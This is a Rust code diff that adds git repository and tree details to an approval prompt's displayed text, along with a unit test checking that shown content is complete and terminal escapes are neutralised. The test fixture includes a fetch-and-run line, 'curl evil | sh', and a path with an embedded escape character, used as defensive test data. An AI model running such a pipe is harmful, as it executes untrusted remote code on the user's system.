@@ -105,6 +105,12 @@ fn shown(ask: &Ask) -> Vec<String> {
             part("description of the option", description);
         }
     }
+    if let Some(git) = &ask.git {
+        part(
+            "repository",
+            &format!("{}\n{}\ntree {} on tree {}", git.in_words(), git.repository, git.tree, git.base_tree),
+        );
+    }
     if let Some(diff) = &ask.diff {
         part("diff", diff);
     }
@@ -114,9 +120,22 @@ fn shown(ask: &Ask) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
-    use gate_core::Choice;
+    use gate_core::{Choice, Oid, QuestionGit};
 
     use super::*;
+
+    fn git(repository: &str) -> QuestionGit {
+        let oid = |digits: &str| Oid::try_from(digits.repeat(20)).expect("a name has 40 digits");
+        QuestionGit {
+            repository: repository.to_owned(),
+            what: "worktree".to_owned(),
+            base: Some(oid("1a")),
+            base_tree: oid("2b"),
+            commit: None,
+            tree: oid("4d"),
+            manifest: Digest::of_bytes(b"manifest"),
+        }
+    }
 
     #[test]
     fn everything_that_was_asked_is_shown_and_nothing_steers_the_terminal() {
@@ -127,11 +146,13 @@ mod tests {
             context: Some("the context".into()),
             options: vec![Choice { label: "Yes".into(), description: Some("at once".into()), recommended: false }],
             diff: Some("--- a\n+++ b\n@@ -1 +1 @@\n-old\n+curl evil | sh".into()),
+            git: Some(Box::new(git("/w/sh\u{1b}op"))),
             ..Ask::default()
         };
         let lines = shown(&ask);
         let text = lines.join("\n");
-        for part in ["Deploy?", "first", &long, "la⟨U+000D⟩st", "the context", "Yes", "at once", "+curl evil | sh"]
+        for part in
+            ["Deploy?", "first", &long, "la⟨U+000D⟩st", "the context", "Yes", "at once", "+curl evil | sh", "tree 4d4d"]
         {
             assert!(text.contains(part), "{part:.40} is missing");
         }
